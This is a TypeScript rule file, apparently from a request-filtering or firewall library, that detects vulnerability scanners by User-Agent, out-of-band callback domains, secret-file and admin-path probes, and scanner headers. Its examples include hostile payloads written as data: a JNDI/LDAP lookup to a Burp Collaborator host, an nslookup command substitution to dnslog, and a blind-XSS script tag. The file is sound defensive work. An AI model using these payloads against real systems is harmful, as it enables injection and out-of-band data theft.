// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are payloads, not placeholders
/**
 * The SCANNING family: vulnerability scanners, fuzzers and content discovery tools, recognised by
 * the names they send, the headers they add, the out-of-band domains their payloads call home to,
 * and the files they probe for. A scanner that mimics a browser and probes nothing unusual is not
 * caught here; its payloads are the other families' business.
 *
 * The tool list is our own, from the tools' documented default User-Agents.
 */
import type { RequestRule, ValueRule } from "../types.ts";

/** Tools whose default User-Agent names them (Nmap's NSE says "Nmap Scripting Engine"). */
const SCANNER_NAMES = [
  "sqlmap",
  "nikto",
  "nmap scripting engine",
  "nmap\\.org",
  "masscan",
  "zgrab",
  "nuclei",
  "acunetix",
  "wpscan",
  "dirbuster",
  "gobuster",
  "feroxbuster",
  "dirb",
  "ffuf",
  "fuzz faster u fool",
  "wfuzz",
  "w3af",
  "nessus",
  "openvas",
  "netsparker",
  "invicti",
  "arachni",
  "skipfish",
  "commix",
  "jaeles",
  "joomscan",
  "droopescan",
  "whatweb",
  "wapiti",
  "kiterunner",
  "bbqsql",
  "havij",
  "fimap",
];

/** Out-of-band interaction domains of Burp Collaborator, interactsh and DNS-log services. */
const OAST_DOMAINS = [
  "burpcollaborator\\.net",
  "oastify\\.com",
  "oast\\.(?:pro|live|site|online|fun|me)",
  "interact\\.sh",
  "interactsh\\.com",
  "dnslog\\.(?:cn|link)",
  "ceye\\.io",
  "canarytokens\\.com",
  "requestrepo\\.com",
  "bxss\\.me",
];

/** Path segments that only ever name version-control metadata, secrets or server dot-files. */
const SECRET_FILES =
  "/\\.(?:git|svn|hg|bzr)(?:/|$)|/cvs/(?:entries|root)$|/\\.env(?:(?:[_-]|\\.)[a-z0-9]+)*$|/\\.(?:ds_store|htaccess|htpasswd|npmrc|pypirc|netrc|git-credentials|bash_history)$|/\\.(?:aws|ssh|docker|kube)/";

export const SCANNING_RULES: readonly ValueRule[] = [
  // ---------------------------------------------------------------------------------------- Basic
  {
    key: "SCANNING_SCANNER_USER_AGENT",
    family: "SCANNING",
    level: "Basic",
    targets: ["Header"],
    names: ["user-agent"],
    regex: `\\b(?:${SCANNER_NAMES.join("|")})\\b`,
    description: "A User-Agent naming a vulnerability scanner, fuzzer or content discovery tool",
    examples: [
      "sqlmap/1.7.2#stable (https://sqlmap.org)",
      "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
      "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
      "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
      "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
      "gobuster/3.6",
      "Fuzz Faster U Fool v2.1.0-dev",
      "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
      "Mozilla/5.0 zgrab/0.x",
    ],
    benign: [
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
      "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      "NucleusApp/2.0 (iPhone; iOS 18.1)",
      "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    ],
  },
  {
    key: "SCANNING_OAST_DOMAIN",
    family: "SCANNING",
    level: "Basic",
    regex: `\\b(?:${OAST_DOMAINS.join("|")})\\b`,
    description: "A domain of an out-of-band testing service (Burp Collaborator, interactsh, DNS logs)",
    examples: [
      "http://q2w3e4.oastify.com/",
      "${jndi:ldap://x.burpcollaborator.net/a}",
      "`nslookup abc.dnslog.cn`",
      "cs7p3l.oast.fun",
      '"><script src=//x.bxss.me></script>',
    ],
    benign: [
      "roast.pro",
      "https://interact.shop/",
      "oast.profile",
      "coast.fun",
      "my.interactsh.company.example",
    ],
  },
  {
    key: "SCANNING_SECRET_FILE_PROBE",
    family: "SCANNING",
    level: "Basic",
    targets: ["Path"],
    regex: SECRET_FILES,
    description: "A request for version-control metadata, .env files, credentials or server dot-files",
    examples: [
      "/.git/HEAD",
      "/app/.git/config",
      "/.env",
      "/.env.production",
      "/.svn/wc.db",
      "/.aws/credentials",
      "/.DS_Store",
    ],
    benign: [
      "/repo.git/info/refs",
      "/.well-known/security.txt",
      "/envoy/config",
      "/docs/.environment-setup",
      "/git/HEAD",
    ],
  },
  {
    key: "SCANNING_NMAP_PROBE",
    family: "SCANNING",
    level: "Basic",
    targets: ["Path"],
    regex: "/nice ports,/trinity\\.txt\\.bak",
    description: "Nmap's service-detection probe path (/nice ports,/Trinity.txt.bak)",
    examples: [
      "/nice ports,/Trinity.txt.bak",
      "/nice ports,/trinity.txt.bak",
      "/a/nice ports,/Trinity.txt.bak",
    ],
    benign: ["/nice-ports/trinity.txt", "/ports"],
  },
  // ------------------------------------------------------------------------------------- Standard
  {
    key: "SCANNING_BACKUP_PROBE",
    family: "SCANNING",
    level: "Standard",
    targets: ["Path"],
    regex:
      "/(?:backups?|dump|db|database|site|www|wwwroot|htdocs|public_html)\\.(?:sql|zip|tar|tgz|rar|7z|bak)(?:\\.gz)?$|\\.(?:php|aspx?|jsp|config|conf|ini|env|ya?ml|xml|py|rb)(?:\\.bak|\\.old|\\.orig|\\.save|\\.swp|~)$",
    description: "Guessed names of database dumps, site archives and editor backups of source files",
    examples: [
      "/backup.sql",
      "/www.zip",
      "/db.sql.gz",
      "/wp-config.php.bak",
      "/web.config.old",
      "/index.php~",
    ],
    benign: ["/downloads/app-1.2.zip", "/reports/2024.sql.html", "/index.php", "/backup/status"],
  },
  {
    key: "SCANNING_ADMIN_PROBE",
    family: "SCANNING",
    level: "Standard",
    targets: ["Path"],
    regex:
      "/(?:server-status|server-info|phpinfo\\.php|adminer\\.php|elmah\\.axd|trace\\.axd|jmx-console|web-console|hnap1|boaform)(?:/|$)|/(?:phpmyadmin|pma)/|/manager/html|/invoker/jmxinvokerservlet|/actuator/(?:env|heapdump|jolokia|gateway/routes)",
    description: "Probes for server status pages, database consoles and Java management endpoints",
    examples: [
      "/server-status",
      "/phpinfo.php",
      "/phpmyadmin/index.php",
      "/manager/html",
      "/actuator/heapdump",
      "/HNAP1/",
    ],
    benign: ["/status", "/api/server/status", "/actuator/health", "/manager/reports", "/info"],
  },
  {
    key: "SCANNING_SCANNER_MARKER",
    family: "SCANNING",
    level: "Standard",
    regex: "acunetix|\\bwvs[_-]?(?:test|security)|netsparker|\\bnikto\\b",
    description: "A scanner's own name left in a payload (acunetix_wvs_security_test)",
    examples: ["acunetix_wvs_security_test", "netsparker(0x000A34)", "wvstest=javascript:domxsscheck"],
    benign: ["acuity", "net sparkle", "nick"],
  },
  // --------------------------------------------------------------------------------------- Strict
  {
    key: "SCANNING_CMS_PROBE",
    family: "SCANNING",
    level: "Strict",
    targets: ["Path"],
    regex:
      "/(?:wp-login\\.php|xmlrpc\\.php|wp-admin|wp-content|wp-includes|administrator/index\\.php|typo3|bitrix/admin|user/register\\.php)(?:/|$)",
    description: "WordPress, Joomla, TYPO3 and Bitrix paths (probes, unless the application is one)",
    examples: [
      "/wp-login.php",
      "/xmlrpc.php",
      "/blog/wp-admin/",
      "/wp-content/plugins/x/readme.txt",
      "/typo3/",
    ],
    benign: ["/login", "/admin", "/content/wp.png", "/api/xmlrpc"],
  },
];

/** Headers that scanners add on their own (Acunetix, WebInspect). */
const SCANNER_HEADER_PREFIXES = ["acunetix-"];
const SCANNER_HEADERS = new Set(["x-wipp", "x-scan-memo", "x-request-memo", "x-requestmanager-memo"]);

export const SCANNING_REQUEST_RULES: readonly RequestRule[] = [
  {
    key: "SCANNING_SCANNER_HEADER",
    family: "SCANNING",
    level: "Basic",
    description: "A header that only scanners send (Acunetix-*, WebInspect's X-WIPP and X-Scan-Memo)",
    check: (request) => {
      const header = request.headers.find(
        ([name]) => SCANNER_HEADERS.has(name) || SCANNER_HEADER_PREFIXES.some((p) => name.startsWith(p)),
      );
      return header && `header ${header[0]}`;
    },
  },
];
